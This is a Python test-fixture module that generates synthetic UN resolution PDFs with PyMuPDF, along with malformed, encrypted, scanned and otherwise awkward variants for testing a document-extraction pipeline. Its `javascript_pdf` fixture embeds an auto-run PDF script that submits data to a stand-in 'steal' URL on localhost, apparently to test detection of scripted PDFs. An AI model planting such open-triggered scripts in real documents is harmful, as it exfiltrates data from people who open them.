"""Small PDFs for the tests, generated with PyMuPDF (nothing is checked in); each returns bytes.

`un_resolution()` lays out a synthetic General Assembly resolution the way the official PDFs are
laid out (measured on ../shared/samples/pdf/A_RES_79_187.pdf): US Letter, Times, a masthead with
the symbol and "Distr.: General", session and agenda lines, "Resolution adopted by ...", the bold
symbol-and-title line, preambular paragraphs whose italic lead phrase is indented to x=147 while
the following lines start at x=123, numbered operative paragraphs, superscript footnote references
and 8.5-pt footnotes below a "____" rule at the page bottom, a running head and "n/N" page numbers
from page 2, and the plenary meeting and date at the end. Fonts are PDF base-14 Times (not
embedded), so the files are small and the same bytes come out on every run.

The unkind ones (`scanned_pdf`, `encrypted_pdf`, `truncated_pdf`, ...) are built from it.
"""

from __future__ import annotations

import copy
import re
from dataclasses import dataclass, field
from functools import lru_cache

import pymupdf

# --- geometry of the official layout (PDF points, y downwards; y values are text baselines) ------

PAGE_WIDTH, PAGE_HEIGHT = 612.0, 792.0
MARGIN_X = 60.0  # masthead, session lines, running head
BODY_X = 123.4  # paragraph text
INDENT_X = 147.1  # first line of a paragraph: lead phrase, or the operative number
VERB_X = 170.9  # the operative verb after "1."
RIGHT_X = 552.0  # rules, running head
TEXT_RIGHT_X = 491.2  # paragraph lines end here (the official ones are justified to it)
TITLE_RIGHT_X = 470.0
BODY_SIZE, LEADING, PARAGRAPH_GAP = 10.0, 12.0, 18.0
SUP_SIZE, SUP_RISE = 6.5, 3.5
FOOTNOTE_SIZE, FOOTNOTE_NUMBER_SIZE, FOOTNOTE_LEADING = 8.5, 5.5, 10.5
FIRST_BODY_BASELINE = 82.4  # page 2 onwards
LAST_FOOTNOTE_BASELINE = {True: 703.5, False: 732.0}  # first page (the footer is taller) / others
RULE_TO_FIRST_FOOTNOTE = 13.7
BODY_TO_RULE = 24.6

FONTS = {"roman": "tiro", "italic": "tiit", "bold": "tibo", "sup": "tiro", "barcode": "cobi"}
SIZES = {"roman": BODY_SIZE, "italic": BODY_SIZE, "sup": SUP_SIZE}

SESSION = "Seventy-ninth session"
AGENDA_ITEM, AGENDA_TITLE = "Agenda item 107", "Crime prevention and criminal justice"
ADOPTED, ISSUED, MEETING = "17 December 2024", "18 December 2024", "53rd plenary meeting"
REPORT = "on the report of the Third Committee (A/79/459, para. 37)"

# --- deterministic wording (UN drafting phrases the lexicon knows) -------------------------------

PREAMBULAR_LEADS = (
    ("Recalling", ""), ("Reaffirming", ""), ("Noting", ""), ("Emphasizing", ""), ("Recognizing", ""),
    ("Welcoming", ""), ("Bearing in mind", ""), ("Taking note", "of"), ("Mindful", "of"),
    ("Noting also", ""), ("Stressing", ""), ("Acknowledging", ""), ("Recalling also", ""),
    ("Convinced", "of the importance of"), ("Reaffirming also", ""), ("Expressing", "its appreciation for"),
)
OPERATIVE_LEADS = (
    ("Requests", "the Secretary-General to", "action"), ("Invites", "Member States and other donors to", "action"),
    ("Encourages", "Member States to", "action"), ("Urges", "Member States to", "action"),
    ("Decides", "to", "action"), ("Welcomes", "", "noun"), ("Calls upon", "all States to", "action"),
    ("Strongly encourages", "Member States to", "action"), ("Takes note", "of", "noun"),
    ("Authorizes", "the open-ended intergovernmental expert group to", "action"), ("Reaffirms", "", "noun"),
    ("Stresses", "", "noun"), ("Recognizes", "", "noun"),
)
NOUNS = (
    "the outcome of the Fourteenth United Nations Congress on Crime Prevention and Criminal Justice, "
    "held in Kyoto, Japan, from 7 to 12 March 2021",
    "its resolution 78/{n} of 19 December 2023",
    "the report of the Secretary-General on the implementation of resolution 77/{n}",
    "the commitment expressed in the Kyoto Declaration to reduce reoffending through rehabilitation and "
    "social reintegration",
    "the work of the United Nations Office on Drugs and Crime in supporting Member States, upon request",
    "the importance of ensuring complementarity and promoting synergy between United Nations standards "
    "and norms in crime prevention and criminal justice",
    "the contributions of civil society, academia and the private sector",
    "the need for practical guidance for national criminal justice systems",
    "the discussions held at the thirty-third session of the Commission on Crime Prevention and Criminal Justice",
)
ACTIONS = (
    "strengthen international cooperation in crime prevention and criminal justice",
    "provide technical assistance, upon request, to Member States, in particular developing countries",
    "submit a report on the implementation of the present resolution to the General Assembly at its "
    "eighty-first session",
    "continue the work of the expert group with a view to reporting to the Commission at its thirty-fourth session",
    "share information on promising practices and lessons learned",
    "consider the development of model strategies to reduce reoffending",
    "convene an open-ended intergovernmental expert group meeting in {n}",
)
EXTRAS = (
    "taking into account their needs and priorities, as well as challenges and restrictions",
    "in accordance with the rules and procedures of the United Nations",
    "subject to the availability of extrabudgetary resources",
    "with interpretation in all official languages of the United Nations",
    "with respect for the existing standards and norms and without prejudice to the output of the expert group",
)
FOOTNOTES = (
    (("A/CONF.234/16.", "roman"),),
    (("Resolution 76/181, annex.", "roman"),),
    (("See A/CONF.234/16, chap. VII, sect. B.", "roman"),),
    (("Official Records of the General Assembly, Seventy-ninth Session, Supplement No. 10", "italic"),
     (" (A/79/10).", "roman")),
    (("E/CN.15/2023/13.", "roman"),),
    (("UNODC/CCPCJ/EG.9/2023/2.", "roman"),),
)

Run = tuple[str, str]  # (text, style): style is roman | italic | sup


@dataclass(frozen=True)
class Paragraph:
    """One paragraph as generated: its plain text is what a reader should give back."""

    kind: str  # preambular | operative
    number: int | None
    lead_phrase: str
    text: str  # without the number and without footnote markers
    footnotes: tuple[int, ...]  # footnote numbers referenced


@dataclass(frozen=True)
class Resolution:
    """A generated resolution PDF and what is in it."""

    pdf: bytes
    symbol: str
    title: str
    pages: int
    paragraphs: tuple[Paragraph, ...]
    footnotes: tuple[str, ...]  # footnote texts, numbered from 1

    @property
    def preambular(self) -> int:
        return sum(p.kind == "preambular" for p in self.paragraphs)

    @property
    def operative(self) -> int:
        return sum(p.kind == "operative" for p in self.paragraphs)


# --- text measuring and line breaking ------------------------------------------------------------

@lru_cache(maxsize=None)
def _width(text: str, style: str) -> float:
    size = SIZES.get(style, BODY_SIZE)
    return pymupdf.get_text_length(text, fontname=FONTS[style], fontsize=size)


@dataclass(frozen=True)
class _Word:
    text: str
    style: str
    space_before: bool


def _words(runs: list[Run]) -> list[_Word]:
    words: list[_Word] = []
    pending_space = False
    for text, style in runs:
        if style == "sup":
            words.append(_Word(text, style, False))
            continue
        for i, part in enumerate(text.split(" ")):
            if i > 0:
                pending_space = True
            if part:
                words.append(_Word(part, style, pending_space and bool(words)))
                pending_space = False
    return words


def _break_lines(words: list[_Word], first_width: float, width: float) -> list[list[_Word]]:
    """Greedy line breaking; a word too long for the line may break after one of its hyphens."""
    lines: list[list[_Word]] = [[]]
    used, limit = 0.0, first_width
    queue = list(words)
    while queue:
        word = queue.pop(0)
        gap = _width(" ", "roman") if word.space_before and lines[-1] else 0.0
        need = gap + _width(word.text, word.style)
        if used + need <= limit or not lines[-1]:
            lines[-1].append(word)
            used += need
            continue
        start = len(lines[-1])
        while start > 0 and not (lines[-1][start:] + [word])[0].space_before:
            start -= 1
        if not word.space_before and start > 0:
            # a footnote marker or a comma stays with its word: the word goes to the next line with it
            chain = lines[-1][start:] + [word]
            del lines[-1][start:]
            queue[:0] = [_Word(chain[0].text, chain[0].style, False)] + chain[1:]
            lines.append([])
            used, limit = 0.0, width
            continue
        head, _, tail = word.text.rpartition("-")
        if head and tail and used + gap + _width(head + "-", word.style) <= limit:
            # "thirty-" at the line end, "fourth" on the next line, as Word breaks compounds
            lines[-1].append(_Word(head + "-", word.style, word.space_before))
            queue.insert(0, _Word(tail, word.style, False))
        else:
            queue.insert(0, _Word(word.text, word.style, False))
        lines.append([])
        used, limit = 0.0, width
    return lines


def _line_pieces(line: list[_Word], x: float) -> list[tuple[float, str, str]]:
    """(x, text, style) pieces of one line, words of one style merged into one piece."""
    pieces: list[tuple[float, str, str]] = []
    for word in line:
        text = (" " if word.space_before else "") + word.text
        if pieces and pieces[-1][2] == word.style:
            px, ptext, pstyle = pieces[-1]
            pieces[-1] = (px, ptext + text, pstyle)
        else:
            start = pieces[-1][0] + _width(pieces[-1][1], pieces[-1][2]) if pieces else x
            pieces.append((start, text, word.style))
    if pieces:  # Word leaves the space before a line break at the end of the line
        px, ptext, pstyle = pieces[-1]
        pieces[-1] = (px, ptext + " ", pstyle)
    return pieces


# --- page layout ---------------------------------------------------------------------------------

@dataclass
class _Page:
    first: bool
    texts: list[tuple[float, float, str, str, float]] = field(default_factory=list)  # x, y, text, font, size
    footnotes: list[int] = field(default_factory=list)
    baseline: float = FIRST_BODY_BASELINE - LEADING  # of the last body line
    end_rule: float | None = None

    def body_limit(self, footnotes: int) -> float:
        """The lowest baseline a body line may have with this many footnotes on the page."""
        last = LAST_FOOTNOTE_BASELINE[self.first]
        if not footnotes:
            return last
        return last - (footnotes - 1) * FOOTNOTE_LEADING - RULE_TO_FIRST_FOOTNOTE - BODY_TO_RULE


class _Layout:
    def __init__(self) -> None:
        self.pages: list[_Page] = [_Page(first=True)]
        self.last_text: tuple[int, int] | None = None  # page, index of the last body piece

    def text(self, x: float, y: float, text: str, style: str, size: float | None = None) -> None:
        page = self.pages[-1]
        page.texts.append((x, y, text, FONTS[style], size or SIZES.get(style, BODY_SIZE)))

    def snapshot(self) -> tuple[int, _Page, tuple[int, int] | None]:
        return len(self.pages), copy.deepcopy(self.pages[-1]), self.last_text

    def restore(self, snap: tuple[int, _Page, tuple[int, int] | None]) -> None:
        count, page, self.last_text = snap
        del self.pages[count:]
        self.pages[-1] = page

    def new_page(self) -> None:
        self.pages.append(_Page(first=False))

    def paragraph(self, runs: list[Run], footnote_numbers: list[int], number: str | None = None) -> None:
        """Place a paragraph 18 pt below the previous one, continued on new pages as needed.

        The first line starts at the indent with the lead phrase, or with the operative number
        there and the verb at the next tab stop; the other lines start at the body margin.
        """
        first_x = VERB_X if number else INDENT_X
        lines = _break_lines(_words(runs), TEXT_RIGHT_X - first_x, TEXT_RIGHT_X - BODY_X)
        markers = iter(footnote_numbers)
        for i, line in enumerate(lines):
            refs = [next(markers) for word in line if word.style == "sup"]
            page = self.pages[-1]
            step = PARAGRAPH_GAP if i == 0 and page.texts else LEADING
            if page.baseline + step > page.body_limit(len(page.footnotes) + len(refs)):
                self.new_page()
                page, step = self.pages[-1], LEADING
            page.baseline += step
            page.footnotes += refs
            if i == 0:  # the tab before the first line leaves a space at the body margin
                self.text(BODY_X, page.baseline, " ", "roman")
                if number:
                    self.text(INDENT_X, page.baseline, f"{number} ", "roman")
            for px, text, style in _line_pieces(line, first_x if i == 0 else BODY_X):
                self.text(px, page.baseline - SUP_RISE if style == "sup" else page.baseline, text, style)
            self.last_text = (len(self.pages) - 1, len(page.texts) - 1)

    def closing_fits(self) -> bool:
        page = self.pages[-1]
        return page.baseline + 36 <= page.body_limit(len(page.footnotes))

    def closing(self, force_new_page: bool = False) -> None:
        """The meeting and the date, kept together, then the short rule that ends the text."""
        if force_new_page or not self.closing_fits():
            self.new_page()
        page = self.pages[-1]
        for step, x, words in ((24, 396.4, MEETING), (12, 407.2, ADOPTED)):  # where A/RES/79/187 has them
            page.baseline += step
            self.text(x, page.baseline, words, "italic")
        page.end_rule = page.baseline + 32

    def end_with_full_stop(self) -> None:
        """The last operative paragraph ends with a full stop instead of a semicolon."""
        if self.last_text is None:
            return
        page, index = self.last_text
        x, y, text, font, size = self.pages[page].texts[index]
        if text.rstrip().endswith(";"):
            self.pages[page].texts[index] = (x, y, text.rstrip()[:-1] + ". ", font, size)


# --- the resolution's wording --------------------------------------------------------------------

def _preambular(i: int) -> tuple[str, list[Run], bool]:
    """Lead phrase, runs (with a marker placeholder) and whether a footnote is referenced."""
    lead, connector = PREAMBULAR_LEADS[i % len(PREAMBULAR_LEADS)]
    noun = NOUNS[(i * 4) % len(NOUNS)].format(n=100 + i % 300)
    return lead, _body(lead, connector, noun, i, ","), i % 3 == 0


def _operative(i: int) -> tuple[str, list[Run], bool]:
    lead, connector, kind = OPERATIVE_LEADS[i % len(OPERATIVE_LEADS)]
    if kind == "action":
        phrase = ACTIONS[(i * 3) % len(ACTIONS)].format(n=2025 + i % 3)
    else:
        phrase = NOUNS[(i * 5 + 2) % len(NOUNS)].format(n=100 + i % 300)
    return lead, _body(lead, connector, phrase, i + 1, ";"), i % 4 == 1


def _body(lead: str, connector: str, phrase: str, i: int, end: str) -> list[Run]:
    """Lead, phrase, footnote marker, then 0-3 qualifying clauses: 1 to 6 lines."""
    extras = [EXTRAS[(i * 2 + k) % len(EXTRAS)] for k in range((i * 5) % 4)]
    head = " ".join(part for part in (connector, phrase) if part)
    tail = "".join(", " + extra for extra in extras) + end
    return [(lead, "italic"), (" " + head, "roman"), ("", "sup"), (tail, "roman")]


def _runs_with_marker(runs: list[Run], number: int | None) -> list[Run]:
    if number is None:
        return [r for r in runs if r[1] != "sup"]
    return [(str(number), "sup") if r[1] == "sup" else r for r in runs]


def _plain(runs: list[Run]) -> str:
    return "".join(text for text, style in runs if style != "sup").strip()


# --- drawing -------------------------------------------------------------------------------------

def _pattern_pixmap(width: int, height: int, seed: int) -> pymupdf.Pixmap:
    """A small deterministic grey image standing in for the logo, the recycling mark and the QR code."""
    pix = pymupdf.Pixmap(pymupdf.csGRAY, pymupdf.IRect(0, 0, width, height), False)
    pix.clear_with(255)
    cell = 5
    for cy in range(0, height, cell):
        for cx in range(0, width, cell):
            if (cx * 7 + cy * 13 + seed) % 3 == 0:
                pix.set_rect(pymupdf.IRect(cx, cy, cx + cell, cy + cell), (0,))
    return pix


def _draw(layout: _Layout, symbol: str, title: str, job: str) -> bytes:
    doc = pymupdf.open()
    total = len(layout.pages)
    for number, page_layout in enumerate(layout.pages, start=1):
        page = doc.new_page(width=PAGE_WIDTH, height=PAGE_HEIGHT)
        shape = page.new_shape()

        def text(x: float, y: float, words: str, style: str, size: float) -> None:
            shape.insert_text((x, y), words, fontname=FONTS[style], fontsize=size)

        if number == 1:
            _masthead(page, shape, text, symbol, job)
        else:
            left, right = (symbol, title) if number % 2 == 0 else (title, symbol)
            text(MARGIN_X, 58.5, left, "bold", 8.5)
            text(RIGHT_X - _bold_width(right, 8.5), 58.5, right, "bold", 8.5)
            shape.draw_line((59.3, 65.0), (RIGHT_X, 65.0))
            shape.finish(width=0.24, color=(0, 0, 0))
            folio = f"{number}/{total}"
            if number % 2 == 0:
                text(MARGIN_X, 754.8, folio, "bold", 8.5)
                text(RIGHT_X - _roman_width(job, 7.0), 753.4, job, "roman", 7.0)
            else:
                text(RIGHT_X - _bold_width(folio, 8.5), 754.8, folio, "bold", 8.5)
                text(MARGIN_X, 753.4, job, "roman", 7.0)
        for x, y, words, font, size in page_layout.texts:
            shape.insert_text((x, y), words, fontname=font, fontsize=size)
        if page_layout.footnotes:
            _footnotes(shape, text, page_layout)
        if page_layout.end_rule is not None:
            shape.draw_line((270.2, page_layout.end_rule), (342.2, page_layout.end_rule))
            shape.finish(width=0.25, color=(0, 0, 0))
        shape.commit()
    doc.set_metadata({"title": f"{symbol} - {title}", "creator": "tests/etl_tests/pdf_fixtures.py"})
    return _save(doc)


def _bold_width(text: str, size: float) -> float:
    return pymupdf.get_text_length(text, fontname="tibo", fontsize=size)


def _roman_width(text: str, size: float) -> float:
    return pymupdf.get_text_length(text, fontname="tiro", fontsize=size)


def _masthead(page: pymupdf.Page, shape: pymupdf.Shape, text, symbol: str, job: str) -> None:
    text(BODY_X, 57.0, "United Nations", "roman", 13.7)
    text(482.1, 57.0, symbol[0], "roman", 20.3)
    text(482.1 + _roman_width(symbol[0], 20.3), 57.0, symbol[1:], "roman", 10.0)
    shape.draw_line((MARGIN_X, 65.0), (552.6, 65.0))
    shape.finish(width=0.48, color=(0, 0, 0))
    text(BODY_X, 86.0, "General Assembly", "bold", 19.8)
    text(397.0, 86.7, "Distr.: General", "roman", 10.0)
    text(397.0, 98.4, ISSUED, "roman", 10.0)
    shape.draw_line((59.3, 209.7), (551.9, 209.7))
    shape.finish(width=1.44, color=(0, 0, 0))
    text(MARGIN_X, 222.3, SESSION, "bold", 10.1)
    text(MARGIN_X, 234.3, AGENDA_ITEM, "roman", 10.0)
    text(MARGIN_X, 246.3, AGENDA_TITLE, "bold", 10.1)
    text(BODY_X, 278.0, "Resolution adopted by the General Assembly", "bold", 14.2)
    text(BODY_X, 293.0, f"on {ADOPTED}", "bold", 14.2)
    text(BODY_X, 318.3, "[", "roman", 10.0)
    text(BODY_X + _roman_width("[", 10.0), 318.3, REPORT, "italic", 10.0)
    text(BODY_X + _roman_width("[", 10.0) + pymupdf.get_text_length(REPORT, fontname="tiit", fontsize=10.0),
         318.3, "]", "roman", 10.0)
    text(65.4, 747.6, f"{job} (E)", "roman", 10.0)
    text(65.4, 759.0, f"*{job.replace('-', '')}*", "barcode", 12.0)
    for rect, seed in (((64.7, 71.3, 120.8, 118.3), 1), ((417.1, 738.1, 490.2, 756.3), 2),
                       ((498.1, 709.3, 552.8, 764.0), 3)):
        r = pymupdf.Rect(rect)
        page.insert_image(r, pixmap=_pattern_pixmap(int(r.width * 2), int(r.height * 2), seed))


def _footnotes(shape: pymupdf.Shape, text, page_layout: _Page) -> None:
    """The footnotes of a page, anchored at the bottom, below a short rule."""
    count = len(page_layout.footnotes)
    last = LAST_FOOTNOTE_BASELINE[page_layout.first]
    first = last - (count - 1) * FOOTNOTE_LEADING
    text(99.6, first - RULE_TO_FIRST_FOOTNOTE, "__________________", "bold", 8.0)
    for k, number in enumerate(page_layout.footnotes):
        y = first + k * FOOTNOTE_LEADING
        text(117.0, y - 0.3, str(number), "roman", FOOTNOTE_NUMBER_SIZE)
        x = 117.0 + _roman_width(str(number), FOOTNOTE_NUMBER_SIZE)
        for words, style in ((" ", "roman"),) + _footnote_runs(number):
            text(x, y, words, style, FOOTNOTE_SIZE)
            x += pymupdf.get_text_length(words, fontname=FONTS[style], fontsize=FOOTNOTE_SIZE)


def _footnote_runs(number: int) -> tuple[Run, ...]:
    return FOOTNOTES[(number - 1) % len(FOOTNOTES)]


def _save(doc: pymupdf.Document, **options) -> bytes:
    # no_new_id: the trailer /ID would otherwise change from run to run
    return doc.tobytes(garbage=3, deflate=True, no_new_id=True, **options)


# --- public fixtures -----------------------------------------------------------------------------

def un_resolution(preambular: int = 3, operative: int = 4, *, pages: int | None = None, number: int = 321,
                  title: str = "Reducing reoffending through rehabilitation and reintegration",
                  footnotes: bool = True) -> Resolution:
    """A synthetic resolution A/RES/79/<number> laid out like the official PDFs.

    Keep `number` below 400: the General Assembly numbers its decisions 79/4xx-5xx.

    With `pages`, operative paragraphs are added after the requested ones until the text fills
    exactly that many pages (ValueError when the requested paragraphs already need more).
    """
    symbol = f"A/RES/79/{number}"
    layout = _Layout()
    _title_block(layout, number, title)
    paragraphs: list[Paragraph] = []
    next_footnote = 1

    def add(kind: str, i: int) -> None:
        nonlocal next_footnote
        lead, runs, marked = (_preambular if kind == "preambular" else _operative)(i)
        ref = next_footnote if marked and footnotes else None
        runs = _runs_with_marker(runs, ref)
        printed = i + 1 if kind == "operative" else None  # the operative paragraph's number
        layout.paragraph(runs, [ref] if ref else [], f"{printed}." if printed else None)
        paragraphs.append(Paragraph(kind, printed, lead, _plain(runs), (ref,) if ref else ()))
        next_footnote += 1 if ref else 0

    for i in range(preambular):
        add("preambular", i)
    for i in range(operative):
        add("operative", i)
    if pages is not None:
        if len(layout.pages) > pages or (len(layout.pages) == pages and not layout.closing_fits()):
            raise ValueError(f"{preambular} + {operative} paragraphs need more than {pages} pages")
        i = operative
        while True:
            snap, counted = layout.snapshot(), (len(paragraphs), next_footnote)
            add("operative", i)
            if len(layout.pages) > pages or (len(layout.pages) == pages and not layout.closing_fits()):
                layout.restore(snap)
                del paragraphs[counted[0]:]
                next_footnote = counted[1]
                break
            i += 1
    layout.end_with_full_stop()
    if paragraphs and paragraphs[-1].kind == "operative" and paragraphs[-1].text.endswith(";"):
        last = paragraphs[-1]
        paragraphs[-1] = Paragraph(last.kind, last.number, last.lead_phrase, last.text[:-1] + ".", last.footnotes)
    layout.closing(force_new_page=pages is not None and len(layout.pages) < pages)
    pdf = _draw(layout, symbol, title, f"24-{24000 + number}")
    notes = tuple("".join(words for words, _ in _footnote_runs(n)) for n in range(1, next_footnote))
    return Resolution(pdf, symbol, title, len(layout.pages), tuple(paragraphs), notes)


def _title_block(layout: _Layout, number: int, title: str) -> None:
    """The bold "79/321. Title" (wrapped with a hanging indent) and the italic "The General Assembly,"."""
    page = layout.pages[0]
    y = 343.5
    layout.text(MARGIN_X, y, " ", "bold", 12.1)
    layout.text(MARGIN_X + 3.0, y, f"79/{number}. ", "bold", 12.1)  # Word leaves the space before the tab
    words = title.split()
    line: list[str] = []
    for word in words:
        if line and BODY_X + _bold_width(" ".join(line + [word]), 12.1) > TITLE_RIGHT_X:
            layout.text(BODY_X, y, " ".join(line) + " ", "bold", 12.1)
            y, line = y + 13.5, []
        line.append(word)
    layout.text(BODY_X, y, " ".join(line) + " ", "bold", 12.1)
    y += 24.5
    layout.text(BODY_X, y, " ", "roman")
    layout.text(INDENT_X, y, "The General Assembly", "italic")
    layout.text(INDENT_X + _width("The General Assembly", "italic"), y, ", ", "roman")
    page.baseline = y


def un_resolution_pdf(preambular: int = 3, operative: int = 4, *, pages: int | None = None, **options) -> bytes:
    """The bytes of `un_resolution(...)`."""
    return un_resolution(preambular, operative, pages=pages, **options).pdf


# --- unkind PDFs ---------------------------------------------------------------------------------

def scanned_pdf(pages: int = 2, dpi: int = 100) -> bytes:
    """A resolution as a scanner makes it: each page one greyscale image, no text layer."""
    source = pymupdf.open("pdf", un_resolution(pages=pages).pdf)
    doc = pymupdf.open()
    for page in source:
        pixmap = page.get_pixmap(dpi=dpi, colorspace=pymupdf.csGRAY)
        doc.new_page(width=page.rect.width, height=page.rect.height).insert_image(page.rect, pixmap=pixmap)
    return _save(doc)


def encrypted_pdf(user_password: str = "x", owner_password: str = "y") -> bytes:
    """A valid resolution that opens only with a password (AES-256; the salt makes the bytes differ per call)."""
    doc = pymupdf.open("pdf", un_resolution_pdf())
    return _save(doc, encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw=user_password, owner_pw=owner_password)


def permissions_only_pdf() -> bytes:
    """A resolution encrypted with an owner password only (no copying, no printing): every viewer opens it."""
    doc = pymupdf.open("pdf", un_resolution_pdf())
    return _save(doc, encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="y", user_pw="",
                 permissions=pymupdf.PDF_PERM_ACCESSIBILITY)


def truncated_pdf(fraction: float = 0.6) -> bytes:
    """The first 60 % of a three-page resolution, as an interrupted download leaves it."""
    data = un_resolution_pdf(pages=3)
    return data[: int(len(data) * fraction)]


def corrupt_pdf() -> bytes:
    """A three-page resolution with 64 bytes in the middle of page 2's compressed text overwritten.

    The middle of the file itself may fall in an image, which would hurt no text; the content
    stream is aimed at so that the damage is to the words, deterministically.
    """
    data = un_resolution_pdf(pages=3)
    doc = pymupdf.open("pdf", data)
    xref = max(doc[1].get_contents(), key=lambda x: len(doc.xref_stream_raw(x)))
    header = re.search(rb"(?m)^%d 0 obj\b" % xref, data)
    start = data.index(b"stream", header.end()) + len(b"stream\n")
    middle = start + len(doc.xref_stream_raw(xref)) // 2
    garbage = (b"\x00garbage\xff" * 8)[:64]  # same length: the cross-reference offsets stay right
    return data[:middle] + garbage + data[middle + 64:]


def not_a_pdf(kind: str = "text") -> bytes:
    """Bytes that are no PDF, meant to be saved under a .pdf name: text, png or html (a saved error page)."""
    if kind == "text":
        return b"Resolution 79/321\n\nThe General Assembly,\n\n1. Decides to act.\n"
    if kind == "html":
        return (b"<!DOCTYPE html>\n<html><head><title>404 Not Found</title></head>\n"
                b"<body><h1>Not Found</h1><p>The requested document A/RES/79/321 was not found.</p></body></html>\n")
    if kind == "png":
        pixmap = pymupdf.Pixmap(pymupdf.csRGB, pymupdf.IRect(0, 0, 40, 30), False)
        pixmap.clear_with(200)
        return pixmap.tobytes("png")
    raise ValueError(f"unknown kind {kind!r}: text, html or png")


def non_un_pdf() -> bytes:
    """A valid PDF with a text layer that is no UN document: an invoice."""
    doc = pymupdf.open()
    page = doc.new_page(width=PAGE_WIDTH, height=PAGE_HEIGHT)
    shape = page.new_shape()
    lines = [
        (60, 80, "Invoice No. 2024-0117", "tibo", 18), (60, 110, "Northwind Office Supplies Ltd.", "tiro", 11),
        (60, 124, "12 Harbour Road, Dublin 2", "tiro", 11), (380, 110, "Date: 17 December 2024", "tiro", 11),
        (380, 124, "Due: 16 January 2025", "tiro", 11), (60, 170, "Description", "tibo", 11),
        (400, 170, "Quantity", "tibo", 11), (480, 170, "Amount", "tibo", 11),
    ]
    items = (("Printer paper, A4, 80 g/m2 (box of 5 reams)", 4, "96.00"), ("Toner cartridge, black", 2, "148.50"),
             ("Ring binders, 40 mm", 20, "37.00"), ("Delivery", 1, "12.00"))
    for k, (what, quantity, amount) in enumerate(items):
        y = 190 + 16 * k
        lines += [(60, y, what, "tiro", 11), (400, y, str(quantity), "tiro", 11), (480, y, amount, "tiro", 11)]
    lines += [(380, 270, "Total due: EUR 293.50", "tibo", 12),
              (60, 320, "1. Payment is due within 30 days of the invoice date.", "tiro", 10),
              (60, 334, "2. Please quote the invoice number with your payment.", "tiro", 10)]
    for x, y, words, font, size in lines:
        shape.insert_text((x, y), words, fontname=font, fontsize=size)
    shape.draw_line((60, 176), (552, 176))
    shape.finish(width=0.5, color=(0, 0, 0))
    shape.commit()
    return _save(doc)


def javascript_pdf() -> bytes:
    """A valid resolution that also carries JavaScript: an OpenAction and a document-level script."""
    doc = pymupdf.open("pdf", un_resolution_pdf())
    catalog = doc.pdf_catalog()
    action = doc.get_new_xref()
    doc.update_object(action, "<< /Type /Action /S /JavaScript /JS (app.alert\\('opened'\\);) >>")
    script = doc.get_new_xref()
    doc.update_object(script, "<< /Type /Action /S /JavaScript "
                              "/JS (this.submitForm\\('http://127.0.0.1:9/steal'\\);) >>")
    doc.xref_set_key(catalog, "OpenAction", f"{action} 0 R")
    doc.xref_set_key(catalog, "Names", f"<< /JavaScript << /Names [(init) {script} 0 R] >> >>")
    return _save(doc)


def form_pdf() -> bytes:
    """A valid resolution with a filled-in text field and a check box below the closing lines."""
    doc = pymupdf.open("pdf", un_resolution_pdf())
    page = doc[-1]
    [date] = page.search_for(ADOPTED)
    top = date.y1 + 40  # below the short rule that ends the text
    for field_type, name, value, rect in (
            (pymupdf.PDF_WIDGET_TYPE_TEXT, "reviewer", "Checked against the record",
             pymupdf.Rect(BODY_X, top, 400, top + 16)),
            (pymupdf.PDF_WIDGET_TYPE_CHECKBOX, "approved", True, pymupdf.Rect(410, top, 424, top + 14))):
        widget = pymupdf.Widget()
        widget.field_type, widget.field_name, widget.field_value, widget.rect = field_type, name, value, rect
        widget.text_fontsize = 9
        page.add_widget(widget)
    return _save(doc)
